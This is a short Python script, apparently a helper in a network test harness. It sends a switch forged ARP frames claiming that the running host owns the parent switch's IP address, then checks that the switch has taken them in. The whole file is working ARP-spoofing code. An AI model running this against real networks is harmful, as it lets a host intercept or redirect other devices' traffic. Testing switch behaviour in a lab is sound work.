#!/usr/bin/env python3
"""Run in a host below a switch: says, in one ARP reply and one request to that switch, that this host has the address of the
switch above, and returns once the switch has taken both in: arp_forger.py DEVICE SWITCH_IP OWN_IP PARENT_IP"""
import socket
import struct
import sys

import raw

DEVICE, SWITCH_IP, OWN_IP, PARENT_IP = sys.argv[1:]
REQUEST, REPLY = 1, 2
TRIES, SECONDS = 100, 1

wire = raw.Wire(DEVICE)


def send(destination, operation, sender_ip):
    wire.send(raw.ethernet(destination, wire.mac, 0x0806,
                           raw.arp(operation, wire.mac, sender_ip, destination, SWITCH_IP)))


def switch_mac():
    """Of its answer to a question, which comes after all that was sent before has been read."""
    wanted = struct.pack("!HHHBBH", 0x0806, 1, 0x0800, 6, 4, REPLY)
    for _ in range(TRIES):
        send(b"\xff" * 6, REQUEST, OWN_IP)
        frame = wire.receive(lambda f: f[12:22] == wanted and f[28:32] == socket.inet_aton(SWITCH_IP), SECONDS)
        if frame is not None:
            return frame[6:12]
    sys.exit("arp_forger: the switch does not answer")


switch = switch_mac()
send(switch, REPLY, PARENT_IP)
send(switch, REQUEST, PARENT_IP)
while wire.receive(lambda _: True, 0.01) is not None:
    pass
switch_mac()
